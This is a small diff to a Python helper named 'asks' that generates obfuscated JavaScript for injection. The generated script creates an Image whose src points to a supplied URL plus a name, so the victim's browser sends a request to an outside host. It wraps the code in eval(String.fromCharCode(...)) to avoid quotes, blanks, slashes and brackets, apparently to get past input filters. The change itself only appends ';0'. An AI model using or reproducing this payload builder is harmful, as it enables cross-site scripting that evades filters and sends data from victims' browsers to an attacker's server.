@@ -16,7 +16,7 @@ PIXEL = (
 
 def asks(url, name):
     """Return JavaScript that asks for a name; it holds no quotes, blanks, slashes or brackets."""
-    code = f"top.p=new Image;top.p.src='{url}/{name}'"
+    code = f"top.p=new Image;top.p.src='{url}/{name}';0"
     return f"eval(String.fromCharCode({','.join(str(ord(one)) for one in code)}))"
 
 
